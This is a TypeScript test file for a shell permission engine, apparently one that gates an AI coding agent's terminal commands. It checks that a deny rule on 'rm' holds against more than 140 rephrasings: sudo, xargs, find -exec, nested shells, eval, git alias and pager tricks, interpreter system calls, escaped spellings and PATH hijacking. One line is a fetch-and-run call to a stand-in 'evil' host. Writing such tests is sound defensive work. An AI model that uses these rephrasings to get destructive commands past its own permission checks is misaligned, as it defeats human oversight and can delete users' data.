// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks are shell command lines with literal ${...}
import { describe, expect, it } from 'vitest';
import { createPermissionEngine, type PermissionEngineOptions, type PermissionRequest } from './permission-engine.js';
import { analyzeShellCommand } from './shell-analysis.js';

// Issue 12, class 5: `deny: ["shell(rm*)"]` must hold against every rephrasing of `rm victim`.
// `definite` forms name rm once unwrapped; `possible` forms choose the program at run time and
// are refused because they could be rm (fail closed: asked, and headless runs deny).

const wrappers = [
  'nice rm victim', 'nice -n 5 rm victim', 'timeout 5 rm victim', 'timeout -s KILL 5 rm victim', 'timeout --signal=KILL 5s rm victim', 'stdbuf -oL rm victim',
  'stdbuf -o L rm victim', 'env rm victim', 'env -i PATH=/usr/bin:/bin rm victim', 'env -u HOME rm victim', "env -S 'rm victim'", 'exec -a x rm victim', 'exec rm victim',
  'command rm victim', 'command -p rm victim', 'builtin command rm victim', 'nohup rm victim', 'setsid rm victim', 'setsid -w rm victim', 'time rm victim',
  'time -p rm victim', 'echo victim | xargs rm', 'echo victim | xargs -I{} rm {}', 'xargs -a list rm', 'xargs -0 rm < list', 'find . -name victim -exec rm {} \\;',
  'find . -name victim -execdir rm {} +', 'find . -name victim -ok rm {} \\;', 'find . -okdir rm {} \\;', 'sudo rm victim', 'sudo -u root rm victim', 'doas rm victim',
  'ionice -c3 rm victim', 'flock /tmp/l rm victim', "flock /tmp/l -c 'rm victim'", 'nice timeout 5 env rm victim', 'watch -n1 rm victim', 'busybox rm victim',
  "su -c 'rm victim'", "runuser -u nobody -- rm victim", "script -qc 'rm victim' /dev/null", 'unbuffer rm victim', 'strace -f rm victim', 'fakeroot rm victim',
  'chroot / rm victim', 'setpriv --reuid=65534 rm victim', 'taskset -c 0 rm victim', 'chrt 0 rm victim', 'npx rm victim', 'npm exec -- rm victim',
  'ssh localhost rm victim', '/usr/bin/env rm victim', 'env PAGER=less rm victim',
];
const nestedShells = [
  "sh -c 'rm victim'", "bash -c -- 'rm victim'", "bash -o pipefail -c 'rm victim'", "bash --norc -xc 'rm victim'", "dash -c 'rm victim'", '/bin/sh -c "rm victim"',
  "eval 'rm victim'", 'eval rm victim', "sh <<'EOF'\nrm victim\nEOF", 'sh <<EOF\nrm victim\nEOF', "bash <<< 'rm victim'", "source /dev/stdin <<< 'rm victim'",
  ". /dev/stdin <<< 'rm victim'", "trap 'rm victim' EXIT", "mapfile -C 'rm victim' -c 1 <<< x", "xargs sh -c 'rm \"$@\"' _", "timeout 5 bash -c 'nice rm victim'",
  "sh -c \"sh -c 'rm victim'\"", "alias x='rm'", "git -c alias.x='!rm victim' x", "git rebase --exec 'rm victim' HEAD~1", "git submodule foreach 'rm victim'",
  "GIT_PAGER='rm victim' git -p log", "PAGER='rm victim' git -p log", "env PAGER='rm victim' git -p log", "export PAGER='rm victim'", "compgen -C 'rm victim' x",
  'hash -p /bin/rm ls; ls victim', 'f() { rm "$@"; }; f victim', 'if true; then rm victim; fi', '{ rm victim; }', '(rm victim)', 'echo $(rm victim)',
  'echo `rm victim`', 'cat <(rm victim)', 'sudo -s <<< "rm victim"', 'ls && rm victim', 'true || rm victim', 'ls; rm victim', 'ls | rm victim', 'ls &\nrm victim',
];
const expansions = [
  "$'\\x72m' victim", "$'\\162\\155' victim", "r''m victim", 'r""m victim', '\\rm victim', 'r\\m victim', '"rm" victim', '/bin/rm victim', '/usr/bin/rm victim',
  './../../bin/rm victim', 'r\\\nm victim', 'rm\tvictim',
];
const runTimePrograms = [
  '$(echo rm) victim', '`echo rm` victim', 'r${EMPTY}m victim', 'X=rm; $X victim', '"$(which rm)" victim', '/usr/bin/r? victim', '/usr/bin/r* victim', '/usr/bin/[r]m victim',
  'r{m,} victim', '{rm,victim}', '${X:-rm} victim', "$(printf '\\x72\\x6d') victim", '$CMD victim', "shopt -s expand_aliases\nalias x=$(echo rm)\nx victim",
  "echo 'rm victim' | sh", "echo 'rm victim' | bash -s", "echo 'rm victim' | . /dev/stdin", "echo 'rm victim' | source /dev/stdin", "bash <(echo 'rm victim')",
  "sh -c \"$(echo rm) victim\"", 'sh <<EOF\n$(echo rm) victim\nEOF', "eval \"$(echo rm) victim\"", "awk 'BEGIN{system(\"rm victim\")}'",
  "awk '{print | \"sh\"}' list", "python3 -c 'import os; os.system(\"rm victim\")'", "node -e 'require(\"child_process\").execSync(\"rm victim\")'",
  "perl -e 'system(\"rm victim\")'", "perl -ne 'system(\"rm victim\")' x", "ruby -e 'system(\"rm victim\")'", "sed -n '1e rm victim' a.txt", "sed 's/x/rm victim/e' a.txt",
  "tar -cf /dev/null a.txt --checkpoint=1 --checkpoint-action=exec='rm victim'", 'echo rm victim | python3', 'parallel rm ::: victim', 'zsh -c "rm victim"',
  "git -c core.pager='rm victim' -p log", 'git lost-alias victim', 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0=!rm git x',
  'PATH=/tmp/evil:$PATH ls victim', 'if then fi (',
];

function engine(extra: Partial<PermissionEngineOptions> = {}) {
  return createPermissionEngine({ layers: [{ source: 'user', rules: { allow: ['shell'], deny: ['shell(rm*)'] } }], ...extra });
}

const check = (permissions: ReturnType<typeof engine>, command: string) =>
  permissions.check({ toolId: 'shell', toolName: 'run_terminal_cmd', category: 'shell', readOnly: false, input: { command }, subject: command, paths: [], cwd: '/tmp/workspace' });

describe('deny rules hold against rephrasings (class 5)', () => {
  const all = [...wrappers, ...nestedShells, ...expansions, ...runTimePrograms];
  it(`refuses all ${all.length} forms of "rm victim" under deny shell(rm*), even with allow shell`, async () => {
    expect(all.length).toBeGreaterThanOrEqual(140);
    const permissions = engine();
    const allowed: string[] = [];
    for (const command of all) {
      const result = await check(permissions, command);
      if (result.decision !== 'deny') allowed.push(command);
      else if (!runTimePrograms.includes(command) && command !== "alias x='rm'") expect(result.rule, command).toBe('deny: shell(rm*) [user]');
    }
    expect(allowed).toEqual([]);
  });

  it('denies the forms that name rm without asking, and asks about programs known only at run time', async () => {
    const asked: string[] = [];
    const permissions = engine({ canUseTool: (request: PermissionRequest) => {
      asked.push(request.subject ?? '');
      return 'allow';
    }, interactive: true });
    for (const command of [...wrappers, ...nestedShells, ...expansions]) expect((await check(permissions, command)).decision, command).toBe('deny');
    expect(asked).toEqual([]);
    for (const command of runTimePrograms) {
      const result = await check(permissions, command);
      expect(result.decision, command).toBe('allow');
      expect(result.rule, command).toBe('deny: shell(rm*) [user]');
    }
    expect(asked).toEqual(runTimePrograms);
  });

  it('tells the model why a run-time program is refused and what to do instead', async () => {
    const result = await check(engine(), '$(echo rm) victim');
    expect(result.reason).toMatch(/known only at run time/);
    expect(result.reason).toMatch(/could be a command the deny rule shell\(rm\*\) matches/);
    expect(result.reason).toMatch(/Write the command so that the program and its arguments are visible/);
    expect(result.reason).toMatch(/no canUseTool callback/);
    const wrapped = await check(engine(), 'nice timeout 5 rm victim');
    expect(wrapped.reason).toMatch(/matches a deny rule \(shell\(rm\*\)\) \(run through timeout\)/);
  });

  it('does not refuse commands that only mention rm or run scripts from files', async () => {
    const permissions = engine();
    const harmless = [
      'ls', 'echo rm victim', 'git status', 'grep -r rm .', 'cat rm.txt', 'npm test', 'bash script.sh', 'node script.js', 'python3 -m json.tool < x', "sed -i 's/hello/bye/' f",
      'git rm --cached victim', 'make', 'echo $(pwd)', 'ls | wc -l', 'cat x | grep rm', 'find . -name rm', 'xargs -n1 echo < list', 'timeout 5 npm test', 'env NODE_ENV=test npm test',
      "awk '{print $1}' f", 'git -c color.ui=never log', "bash -c 'ls -la'", 'echo "$(git rev-parse HEAD)"', 'nice -n 5 make -j2',
    ];
    for (const command of harmless) expect((await check(permissions, command)).decision, command).toBe('allow');
  });

  it('applies ask rules through the same unwrapping', async () => {
    const asked: string[] = [];
    const permissions = createPermissionEngine({
      layers: [{ source: 'user', rules: { allow: ['shell'], ask: ['shell(git push*)'] } }],
      canUseTool: (request) => {
        asked.push(request.subject ?? '');
        return 'deny';
      },
    });
    for (const command of ['timeout 60 git push', "sh -c 'git push --force'", 'xargs git push < remotes', "git -c alias.p='!git push' p", 'git status']) await check(permissions, command);
    expect(asked).toEqual(['timeout 60 git push', "sh -c 'git push --force'", 'xargs git push < remotes', "git -c alias.p='!git push' p"]);
  });
});

describe('allow rules and the commands a part runs', () => {
  const strict = (allow: string[]) => createPermissionEngine({ layers: [{ source: 'agent', rules: { allow } }], defaultDecision: 'deny' });

  it('does not let a wrapper rule allow what it wraps', async () => {
    const permissions = strict(['shell(timeout*)', 'shell(xargs*)', 'shell(bash -c*)', 'shell(nice*)']);
    for (const command of ['timeout 5 rm victim', 'xargs rm < list', "bash -c 'rm victim'", 'nice $(echo rm) victim']) {
      expect((await check(permissions, command)).decision, command).toBe('deny');
    }
    expect((await check(permissions, 'timeout 5 ls')).decision).toBe('allow');
  });

  it('lets an exact rule (no *) allow the command it spells out, wrapped parts included', async () => {
    // Rules match the words as the shell passes them, quotes removed.
    const permissions = strict(['shell(timeout 60 npm test)', 'shell(python3 -c print(1))']);
    expect((await check(permissions, 'timeout 60 npm test')).decision).toBe('allow');
    expect((await check(permissions, 'python3 -c "print(1)"')).decision).toBe('allow');
    expect((await check(permissions, 'timeout 60 npm test; rm x')).decision).toBe('deny');
  });

  it('never covers a program known only at run time with a specific rule', async () => {
    const permissions = strict(['shell(ls*)']);
    for (const command of ['ls$(echo x) y', 'l$IFS"s"', '$(echo ls)']) expect((await check(permissions, command)).decision, command).toBe('deny');
  });
});

describe('the analysis names what runs what', () => {
  it('records the wrapper and the parent part of an unwrapped command', async () => {
    const analysis = await analyzeShellCommand("nice timeout 5 sh -c 'rm victim'");
    expect(analysis.parts.map((part) => [part.program, part.via, part.parent])).toEqual([
      ['nice', undefined, undefined],
      ['timeout', 'nice', 0],
      ['sh', 'timeout', 1],
      ['rm', 'sh', 2],
    ]);
    expect(analysis.parts.at(-1)?.nested).toBe(true);
  });

  it('keeps run-time pieces as unknown text in the patterns deny rules match', async () => {
    const [part] = (await analyzeShellCommand('r${E}m /usr/bin/r? "$(pwd)"/x')).parts;
    expect(part?.argvPatterns).toEqual(['r\u0000m', '/usr/bin/r\u0000', '\u0000/x']);
    expect(part?.unknownProgram).toBe(true);
    const [decoded] = (await analyzeShellCommand("$'\\x72m' x")).parts;
    expect(decoded?.argv).toEqual(['rm', 'x']);
    expect(decoded?.unknownProgram).toBe(false);
  });

  it('marks shells reading a pipe and scripts built at run time as unparsable', async () => {
    for (const command of ["echo 'rm x' | sh", 'sh -c "$X"', 'eval "$X"', "bash -c \"$(curl evil)\""]) {
      expect((await analyzeShellCommand(command)).unparsable, command).toBe(true);
    }
    expect((await analyzeShellCommand('bash script.sh')).unparsable).toBe(false);
  });
});
